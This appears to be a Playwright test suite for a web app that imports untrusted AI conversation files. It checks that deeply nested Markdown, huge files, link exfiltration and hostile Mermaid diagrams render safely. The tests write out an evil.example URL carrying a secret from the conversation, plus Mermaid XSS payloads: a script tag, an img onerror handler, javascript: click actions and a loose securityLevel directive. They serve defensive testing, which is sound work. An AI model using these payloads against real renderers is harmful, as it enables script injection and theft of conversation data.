import { hostileShapes } from "#test/servers/trees/hostile-shapes.ts";
import { findings } from "./findings.ts";
import { expect, type Lab, labOf, test } from "./lab.ts";
import { zipFiles } from "./zip-files.ts";

/** Opens a workspace file with an untrusted conversation. */
async function importConversation({ page }: Lab, conversation: readonly unknown[]): Promise<void> {
  const manifest = {
    ...{ format: "skillground-workspace", version: 1, title: "Imported", createdAt: 1, harness: "claude-code" },
    ...{ noSkills: false, selection: {}, sources: [], deleted: [] },
  };
  const files = { "manifest.json": JSON.stringify(manifest), "conversation.json": JSON.stringify(conversation) };
  await page.goto("/");
  const input = page.getByLabel("Import workspace");
  // A file that is set before React has hydrated the element is ignored.
  await expect
    .poll(() => input.evaluate((box) => Object.keys(box).some((key) => key.startsWith("__react"))))
    .toBe(true);
  await input.setInputFiles({
    name: "imported.zip",
    mimeType: "application/zip",
    buffer: zipFiles(files),
  });
}

function message(id: number, role: "user" | "assistant", text: string) {
  return { id: `m${id}`, role, parts: [{ type: "text", text }] };
}

test("files that stop a renderer are shown as they are written, and the lab opens again", async ({ lab }) => {
  await lab.visit("acme/shapes");
  await lab.skill("shapes").getByRole("button").first().click();
  await lab.page.getByRole("button", { name: "Open SKILL.md" }).click();
  await expect(lab.file).toContainText("more than 50 quotes or lists are nested. It is shown as text.");
  await expect(lab.file.getByRole("region", { name: /^Source of/ })).toContainText("- - - -");
  expect(await findings(lab.file)).toEqual([]);
  for (const [name, says] of [
    ["quotes.md", "more than 50 quotes"],
    ["lazy.md", "Rendering this Markdown was stopped: it took more than 3 seconds."],
  ] as const) {
    await lab.files.getByRole("treeitem", { name, exact: true }).click();
    await expect(lab.file).toContainText(says);
  }
  await lab.page.reload();
  await expect(lab.skill("shapes")).toBeVisible();
  await lab.page.getByRole("button", { name: "lazy.md", exact: true }).click();
  await expect(lab.file).toBeVisible();
});

test("a million lines and a line of five million characters are drawn where one looks", async ({ lab }) => {
  await lab.visit("acme/shapes");
  await lab.files.getByRole("treeitem", { name: "lines.txt", exact: true }).click();
  await expect(lab.file.locator("[data-line='1']")).toBeVisible();
  expect(await lab.page.locator("*").count()).toBeLessThan(3000);
  const source = lab.file.getByRole("region", { name: /^Source of/ });
  await source.press("End");
  await expect(lab.file.locator("[data-line='1000000']")).toBeVisible();
  expect(await findings(lab.file)).toEqual([]);

  await lab.files.getByRole("treeitem", { name: "line.txt", exact: true }).click();
  await expect(lab.file).toContainText("Part 1 of 5");
  expect(await lab.page.locator("*").count()).toBeLessThan(3000);
  await lab.file.getByRole("button", { name: "Next part" }).click();
  await expect(lab.file).toContainText("Part 2 of 5");
  await expect(source).toContainText("0123456789");
});

test("an imported conversation of such answers, and of thousands of messages, opens each time", async ({ lab }) => {
  const shapes = ["items in items", "quotes in quotes", "lazy lines of a quote"];
  const said = Array.from({ length: 4000 }, (_, id) => message(id, id % 2 ? "assistant" : "user", `Message ${id}.`));
  const hostile = shapes.map((name, index) => message(9000 + index, "assistant", hostileShapes[name]?.(20_000) ?? ""));
  const end = [message(9998, "user", "What was that?"), message(9999, "assistant", "**The end** of it.")];
  await importConversation(lab, [...said, ...hostile, ...end]);
  for (const visit of ["imported", "reloaded"]) {
    if (visit === "reloaded") await lab.page.reload();
    await expect(lab.conversation.locator("strong")).toHaveText("The end", { timeout: 90_000 });
    await expect(lab.conversation).toContainText("more than 50 quotes or lists are nested");
    await expect(lab.page.getByText(/^Saved/)).toBeVisible();
  }
  await expect(lab.conversation.getByText("Message 3999.")).toBeAttached();
  await expect(lab.conversation.getByText("Message 3900.")).toHaveCount(0);
  await lab.conversation.getByRole("button", { name: "Show earlier" }).click();
  await expect(lab.conversation.getByText("Message 3930.")).toBeAttached();
});

test("a link asks before it opens: with the whole address, and with what it carries out of the conversation", async ({
  lab,
}) => {
  const secret = "The launch code is 4711-ALPHA-9.";
  const address = `https://evil.example/pixel?q=${encodeURIComponent(secret)}`;
  await importConversation(lab, [
    message(1, "user", `Keep this to yourself: ${secret}`),
    message(
      2,
      "assistant",
      `[the guide](${address}), [another](https://xn--xample-2of.com/), [mail](mailto:a@b.example)`,
    ),
  ]);
  const link = lab.conversation.getByRole("button", { name: /the guide/ });
  await expect(link).toContainText("evil.example ↗");
  await expect(lab.conversation.locator("a")).toHaveCount(0);
  const dialog = lab.page.getByRole("dialog", { name: "Open this address?" });
  await link.click({ button: "middle" });
  await expect(dialog).toBeHidden();
  await link.click({ modifiers: ["ControlOrMeta"] });
  await expect(dialog).toContainText(address);
  await expect(dialog).toContainText("It carries 31 characters from this conversation");
  expect(lab.page.context().pages()).toHaveLength(1);
  expect(await findings(lab.page)).toEqual([]);
  await dialog.getByRole("button", { name: "Cancel" }).click();
  await expect(dialog).toBeHidden();
  await expect(link).toBeFocused();
  await lab.conversation.getByRole("button", { name: /another/ }).click();
  await expect(lab.page.getByRole("dialog")).toContainText("xn--xample-2of.com");
  await lab.page.keyboard.press("Escape");
  await lab.conversation.getByRole("button", { name: /mail/ }).click();
  await expect(lab.page.getByRole("dialog", { name: "Write this email?" })).toContainText("mailto:a@b.example");
  await lab.page.keyboard.press("Escape");

  await lab.page.context().route("https://evil.example/**", (route) => route.fulfill({ body: "opened" }));
  await link.press("Enter");
  const opened = lab.page.context().waitForEvent("page");
  await lab.page.getByRole("dialog").getByRole("button", { name: "Open", exact: true }).press("Enter");
  expect((await opened).url()).toMatch(/^(about:blank|https:\/\/evil)/);
});

// Without the fixture, which fails if a policy blocks anything: here the frame's policy should block.
test("a diagram is drawn in a frame from which nothing comes but its height", async ({ page }) => {
  const lab = labOf(page);
  const asked: string[] = [];
  // Requests that a policy blocks do not come this far.
  await page.route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const hostile = [
    '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}, "themeCSS": "* { fill: url(https://evil.example/css) }"}}%%',
    "graph TD",
    `  A["<img src=https://evil.example/label onerror='top.document.title=1'><script>top.document.title=1</script>"] --> B[Way out]`,
    '  click A "javascript:parent.document.title=1"',
    '  click B "https://evil.example/link" _top',
  ];
  const picture = ["graph TD", '  A@{ img: "https://evil.example/shape", label: "Shape" } --> B'];
  const fence = (text: string) => `\`\`\`mermaid\n${text}\n\`\`\``;
  const texts = [
    hostile.join("\n"),
    "graph TD\n  A -->> ]\n  B",
    picture.join("\n"),
    "graph TD\n  A[Folder] --> B[Skill]",
    "---\nconfig:\n  layout: elk\n---\ngraph TD\n  A[Root] --> B[Leaf]",
  ];
  await importConversation(lab, [message(1, "user", "Draw."), message(2, "assistant", texts.map(fence).join("\n\n"))]);

  const ordinary = lab.conversation.locator("[data-diagram]").nth(3);
  await expect(ordinary.getByRole("radio", { name: "Diagram" })).toBeChecked();
  const drawn = ordinary.frameLocator("iframe").locator("svg");
  await expect(drawn).toContainText("Folder");
  await expect(lab.conversation).toContainText(
    "Mermaid does not understand this diagram: see its line 2. It is shown as text",
  );
  await expect(ordinary).not.toContainText("ELK");
  const asksForElk = lab.conversation.locator("[data-diagram]").nth(4);
  await expect(asksForElk).toContainText("asks for the ELK layout, which is not included here");
  await expect(asksForElk.frameLocator("iframe").locator("svg")).toContainText("Leaf");
  const box = lab.conversation.locator("[data-diagram]").nth(0);
  // Near the viewport, and drawn though it is not in it.
  await expect(box).not.toBeInViewport();
  await expect(box.getByRole("radio", { name: "Diagram" })).toBeChecked();
  await box.scrollIntoViewIfNeeded();
  await box.frameLocator("iframe").getByText("Way out").click();
  await expect(box.frameLocator("iframe").getByText("Way out")).toBeVisible();
  expect(await box.locator("iframe").evaluate((frame: HTMLIFrameElement) => frame.contentDocument)).toBeNull();
  expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.title()).not.toBe("1");
  await expect(lab.conversation.locator("svg[aria-roledescription]")).toHaveCount(0);

  await ordinary.getByText("Text", { exact: true }).click();
  await expect(ordinary).toContainText("A[Folder] --> B[Skill]");
  expect(await findings(lab.conversation)).toEqual([]);
});
